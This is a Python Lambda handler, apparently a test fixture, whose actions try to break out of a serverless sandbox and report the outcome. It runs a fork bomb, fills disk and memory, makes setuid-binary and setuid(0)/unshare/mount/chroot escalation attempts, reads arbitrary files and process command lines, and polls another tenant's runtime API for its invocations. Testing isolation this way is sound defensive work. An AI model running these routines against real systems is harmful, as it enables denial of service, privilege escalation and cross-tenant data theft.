"""A hostile handler: each action tries to break out of its environment and reports what happened."""

import ctypes
import errno
import os
import shutil
import subprocess
import time
import urllib.request

LIBC = ctypes.CDLL(None, use_errno=True)


def _errno_of(call):
    try:
        call()
    except OSError as exc:
        return errno.errorcode.get(exc.errno, str(exc.errno))
    return "ok"


def _libc(name, *args):
    if getattr(LIBC, name)(*args) == 0:
        return "ok"
    return errno.errorcode.get(ctypes.get_errno(), "?")


def _fill_tmp():
    chunk = b"x" * (1 << 20)
    written = 0
    try:
        with open("/tmp/fill", "wb") as f:
            while written < 2048:
                f.write(chunk)
                written += 1
            f.flush()
    except OSError as exc:
        return {"errno": errno.errorcode.get(exc.errno), "mib": written}
    finally:
        if os.path.exists("/tmp/fill"):
            os.remove("/tmp/fill")
    return {"errno": "ok", "mib": written}


def _fork_bomb():
    children = 0
    failure = "none"
    while children < 4096:
        try:
            pid = os.fork()
        except OSError as exc:
            failure = errno.errorcode.get(exc.errno, "?")
            break
        if pid == 0:
            time.sleep(3)
            os._exit(0)
        children += 1
    return {"children": children, "failure": failure}


def _privileges():
    setuid_files = []
    for top in ("/usr", "/bin", "/sbin", "/opt", "/var/task"):
        for root, _dirs, files in os.walk(top):
            for name in files:
                path = os.path.join(root, name)
                try:
                    if os.lstat(path).st_mode & 0o4000:
                        setuid_files.append(path)
                except OSError:
                    pass
    shutil.copy("/usr/bin/python3", "/tmp/py")
    os.chmod("/tmp/py", 0o4755)
    try:
        euid = subprocess.run(
            ["/tmp/py", "-c", "import os; print(os.geteuid())"], capture_output=True, text=True
        ).stdout.strip()
    except OSError as exc:
        euid = errno.errorcode.get(exc.errno, "?")  # were /tmp mounted noexec
    os.remove("/tmp/py")
    status = dict(
        line.split(":\t", 1) for line in open("/proc/self/status").read().splitlines() if ":\t" in line
    )
    su = "none"
    if setuid_files:
        run = subprocess.run(
            [setuid_files[0], "--help"], capture_output=True, text=True, stdin=subprocess.DEVNULL
        )
        su = f"exit {run.returncode}"
    return {
        "setuid_files": setuid_files,
        "setuid_run": su,
        "no_new_privs": status.get("NoNewPrivs", "?").strip(),
        "cap_eff": status.get("CapEff", "?").strip(),
        "cap_bnd": status.get("CapBnd", "?").strip(),
        "setuid_copy_euid": euid,
        "setuid0": _errno_of(lambda: os.setuid(0)),
        "unshare_user": _libc("unshare", 0x10000000),
        "unshare_mount": _libc("unshare", 0x00020000),
        "mount": _libc("mount", b"none", b"/tmp", b"tmpfs", 0, None),
        "chroot": _errno_of(lambda: os.chroot("/tmp")),
        "uid": os.getuid(),
    }


def _read_files(event):
    found = {}
    for path in event["paths"]:
        try:
            with open(path, "rb") as f:
                found[path] = "read %d bytes" % len(f.read(4096))
        except OSError as exc:
            found[path] = errno.errorcode.get(exc.errno, "?")
    pids = [p for p in os.listdir("/proc") if p.isdigit()]
    cmdlines = []
    for pid in pids:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                cmdlines.append(f.read().replace(b"\0", b" ").decode(errors="replace"))
        except OSError:
            pass
    return {"files": found, "cmdlines": cmdlines}


def _other_runtime_api(event):
    own = os.environ["AWS_LAMBDA_RUNTIME_API"]
    other = [a for a in event["addresses"] if a != own][0]
    url = f"http://{other}/2018-06-01/runtime/invocation/next"
    try:
        with urllib.request.urlopen(url, timeout=event.get("wait", 2)) as resp:
            headers = {k: v for k, v in resp.headers.items() if k.startswith("Lambda-Runtime")}
            body = resp.read().decode(errors="replace")
            return {"own": own, "other": other, "status": resp.status, "body": body, **headers}
    except urllib.error.HTTPError as exc:
        return {"status": exc.code, "body": exc.read().decode(errors="replace")}
    except OSError as exc:
        return {"status": "error", "body": repr(exc)}


def _exec_tmp():
    script = "/tmp/hello.sh"
    with open(script, "w") as f:
        f.write("#!/bin/sh\necho ran from tmp as $(id -u)\n")
    os.chmod(script, 0o755)
    try:
        done = subprocess.run([script], capture_output=True, text=True, timeout=10)
    except OSError as exc:
        return {"exec": errno.errorcode.get(exc.errno, str(exc.errno))}
    finally:
        os.remove(script)
    return {"exec": "ok", "stdout": done.stdout, "code": done.returncode}


def handler(event, context):
    action = event.get("action")
    if action == "write_root":
        return {p: _errno_of(lambda p=p: open(p, "w").close()) for p in event["paths"]}
    if action == "fill_tmp":
        return _fill_tmp()
    if action == "fork_bomb":
        return _fork_bomb()
    if action == "allocate":
        block = bytearray(event["mib"] << 20)
        return {"allocated": len(block)}
    if action == "privileges":
        return _privileges()
    if action == "read_files":
        return _read_files(event)
    if action == "other_runtime_api":
        return _other_runtime_api(event)
    if action == "exec_tmp":
        return _exec_tmp()
    if action == "sleep":
        time.sleep(event["seconds"])
    return {"echo": event, "pid": os.getpid()}
